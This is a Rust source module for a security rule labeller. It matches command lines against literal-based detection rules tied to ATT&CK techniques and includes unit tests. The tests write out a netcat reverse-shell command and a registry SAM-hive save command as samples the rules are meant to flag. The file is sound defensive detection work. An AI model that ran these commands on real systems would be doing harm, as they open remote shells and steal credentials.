//! The detection rules of the rule labeller, and the one pass that finds which of them a line hits.
//!
//! What: a rule is a conjunction of alternatives over literals: every group of `all` must have one literal present, none of
//! `none` may be. Each carries a name, a level, an ATT&CK technique, one line of meaning, an example and a near-miss; a
//! test walks the whole table, so a rule without both cannot exist. One file a tactic, for all systems.
//!
//! Why literals and not regular expressions or Sigma: all literals of all rules are found in *one* Aho–Corasick pass over the line and
//! its decoded payloads, linear whatever the text, and a rule stays readable to whoever must defend its verdict. Sigma rules
//! are loaded elsewhere, beside these.
//!
//! A literal may be anchored: `@x` is a program or word of its own (`@nc` hits `nc`, `nc.exe`, `/bin/nc`, not `sync`),
//! `=x` must not touch a letter, digit, `_` or `-` on either side. A level says what a hit alone proves: [`Level::High`] malice,
//! [`Level::Medium`] suspicion, [`Level::Low`] a dual use that must keep a line from being called benign.
//!
//! Cost: one automaton pass over the text, about 5 ns a byte, plus one look at each group of each rule.

mod credentials;
mod discovery;
mod evasion;
mod execution;
mod impact;
mod persistence;
mod transfer;

use aho_corasick::{AhoCorasick, MatchKind};
use std::collections::BTreeMap;
use std::sync::LazyLock;

/// What a hit proves.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Level {
    /// A dual use: not benign without a person.
    Low,
    /// Suspicious.
    Medium,
    /// Malicious.
    High,
}

/// One detection rule.
#[derive(Debug, Clone, Copy)]
pub struct Rule {
    /// Unique name, in snake case.
    pub name: &'static str,
    /// What a hit proves.
    pub level: Level,
    /// MITRE ATT&CK technique.
    pub technique: &'static str,
    /// One line for the reason of a label.
    pub description: &'static str,
    /// Of every group one literal must occur. A group is one string, its literals separated by `;;`; lower case, single
    /// spaces, no quotes. (One string, because a literal a line would bury the rules.)
    pub all: &'static [&'static str],
    /// None of these literals may occur; empty for none.
    pub none: &'static str,
    /// A line that it hits.
    pub example: &'static str,
    /// A line that looks alike and that it does not hit.
    pub near_miss: &'static str,
}

/// A rule that a text hits, and the literal that shows it best.
#[derive(Debug, Clone, Copy)]
pub struct Hit {
    /// The rule.
    pub rule: &'static Rule,
    /// The longest of its literals that occurred, without its anchor.
    pub literal: &'static str,
}

/// All rules, in the order of the tables.
pub fn rules() -> impl Iterator<Item = &'static Rule> {
    [
        credentials::RULES,
        execution::RULES,
        persistence::RULES,
        evasion::RULES,
        discovery::RULES,
        transfer::RULES,
        impact::RULES,
    ]
    .into_iter()
    .flatten()
}

/// The literals of a group.
fn literals(group: &'static str) -> impl Iterator<Item = &'static str> {
    group.split(";;").filter(|literal| !literal.is_empty())
}

/// A rule with the indices of its literals.
struct Compiled {
    rule: &'static Rule,
    all: Vec<Vec<usize>>,
    none: Vec<usize>,
}

struct Matcher {
    automaton: Option<AhoCorasick>,
    literals: Vec<&'static str>,
    compiled: Vec<Compiled>,
}

static MATCHER: LazyLock<Matcher> = LazyLock::new(|| {
    let mut index: BTreeMap<&'static str, usize> = BTreeMap::new();
    let mut found = Vec::new();
    let mut number = |literal: &'static str| {
        *index.entry(literal).or_insert_with(|| {
            found.push(literal);
            found.len() - 1
        })
    };
    let compiled = rules()
        .map(|rule| Compiled {
            rule,
            all: rule
                .all
                .iter()
                .map(|group| literals(group).map(&mut number).collect())
                .collect(),
            none: literals(rule.none).map(&mut number).collect(),
        })
        .collect();
    let patterns = found.iter().map(|literal| plain(literal));
    let automaton = AhoCorasick::builder()
        .match_kind(MatchKind::Standard)
        .build(patterns)
        .ok();
    Matcher {
        automaton,
        literals: found,
        compiled,
    }
});

fn plain(literal: &'static str) -> &'static str {
    literal.strip_prefix(['@', '=']).unwrap_or(literal)
}

/// The text that rules are matched on: lower case, white space collapsed, without quotes and carets, a space at both ends.
#[must_use]
pub fn normalised(line: &str) -> String {
    let mut out = String::with_capacity(line.len() + 2);
    out.push(' ');
    for c in line.chars() {
        if c.is_whitespace() || c.is_control() {
            if !out.ends_with(' ') {
                out.push(' ');
            }
        } else if matches!(c, '\u{2013}' | '\u{2014}' | '\u{2015}') {
            out.push('-');
        } else if !matches!(c, '"' | '\'' | '^') {
            out.extend(c.to_lowercase());
        }
    }
    if !out.ends_with(' ') {
        out.push(' ');
    }
    out
}

/// The rules that a [`normalised`] text hits, in the order of the tables.
///
/// Should the automaton not have been built (it is, a test says so), every rule hits: failing closed, nothing is benign.
#[must_use]
pub fn hits(text: &str) -> Vec<Hit> {
    let matcher = &*MATCHER;
    let Some(automaton) = &matcher.automaton else {
        return rules().map(|rule| Hit { rule, literal: "" }).collect();
    };
    let mut present = vec![false; matcher.literals.len()];
    let bytes = text.as_bytes();
    for found in automaton.find_overlapping_iter(text) {
        let literal = found.pattern().as_usize();
        if !present[literal]
            && anchored(matcher.literals[literal], bytes, found.start(), found.end())
        {
            present[literal] = true;
        }
    }
    let mut out = Vec::new();
    for Compiled { rule, all, none } in &matcher.compiled {
        if all.iter().all(|group| group.iter().any(|l| present[*l]))
            && !none.iter().any(|l| present[*l])
        {
            let literal = all
                .iter()
                .flatten()
                .filter(|l| present[**l])
                .map(|l| plain(matcher.literals[*l]))
                .max_by_key(|l| l.len());
            out.push(Hit {
                rule,
                literal: literal.unwrap_or(""),
            });
        }
    }
    out
}

fn anchored(literal: &str, text: &[u8], start: usize, end: usize) -> bool {
    let before = start.checked_sub(1).map_or(b' ', |i| text[i]);
    let after = text.get(end).copied().unwrap_or(b' ');
    let word = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-';
    match literal.as_bytes().first() {
        Some(b'=') => !word(before) && !word(after),
        Some(b'@') => {
            let opens = matches!(
                before,
                b' ' | b'/'
                    | b'\\'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'('
                    | b'='
                    | b'`'
                    | b'{'
                    | b':'
                    | b','
                    | b'>'
            );
            let closes = matches!(
                after,
                b' ' | b'|' | b';' | b'&' | b')' | b'`' | b'}' | b',' | b'<' | b'>'
            ) || text
                .get(end..end + 4)
                .is_some_and(|e| matches!(e, b".exe" | b".com" | b".bat" | b".cmd"));
            opens && closes
        }
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn names(line: &str) -> Vec<&'static str> {
        hits(&normalised(line))
            .iter()
            .map(|hit| hit.rule.name)
            .collect()
    }

    #[test]
    fn every_rule_hits_its_example_and_misses_its_near_miss() {
        for rule in rules() {
            assert!(
                !rule.example.is_empty() && !rule.near_miss.is_empty(),
                "{}",
                rule.name
            );
            assert!(
                names(rule.example).contains(&rule.name),
                "{} misses its example",
                rule.name
            );
            assert!(
                !names(rule.near_miss).contains(&rule.name),
                "{} hits its near-miss",
                rule.name
            );
        }
    }

    #[test]
    fn names_are_unique_and_every_rule_is_whole() {
        let mut seen = BTreeSet::new();
        for rule in rules() {
            assert!(seen.insert(rule.name), "{} twice", rule.name);
            assert!(
                rule.technique.starts_with('T') || rule.technique.starts_with("AML"),
                "{}",
                rule.name
            );
            assert!(
                rule.description.len() > 10
                    && !rule.all.is_empty()
                    && rule.all.iter().all(|group| literals(group).count() > 0),
                "{}",
                rule.name
            );
            for literal in rule
                .all
                .iter()
                .flat_map(|group| literals(group))
                .chain(literals(rule.none))
            {
                assert_eq!(literal, literal.to_lowercase(), "{}", rule.name);
                assert!(
                    !literal.contains(['"', '\'', '^'])
                        && !literal.contains("  ")
                        && plain(literal).len() >= 2,
                    "{}: {literal}",
                    rule.name
                );
            }
        }
        assert!(seen.len() >= 60 && MATCHER.automaton.is_some());
    }

    #[test]
    fn a_program_literal_needs_a_word_of_its_own() {
        assert!(names("nc -e /bin/sh 10.0.0.1 4444").contains(&"reverse_shell_tool"));
        assert!(!names("rsync -e /usr/bin/ssh a b").contains(&"reverse_shell_tool"));
    }

    #[test]
    fn quotes_carets_case_and_white_space_hide_nothing() {
        assert!(names("R^e^G   \"SAVE\"\t'HKLM\\sam' x").contains(&"registry_hive_save"));
    }

    #[test]
    fn a_hostile_mebibyte_is_matched_in_linear_time() {
        for seed in ["lsass ", "\\\\", "aaaa", "-enc", "http://1", "@@=="] {
            let line = seed.repeat((1 << 20) / seed.len());
            let start = std::time::Instant::now();
            let _ = hits(&normalised(&line));
            assert!(start.elapsed().as_secs() < 5, "{seed}");
        }
    }
}
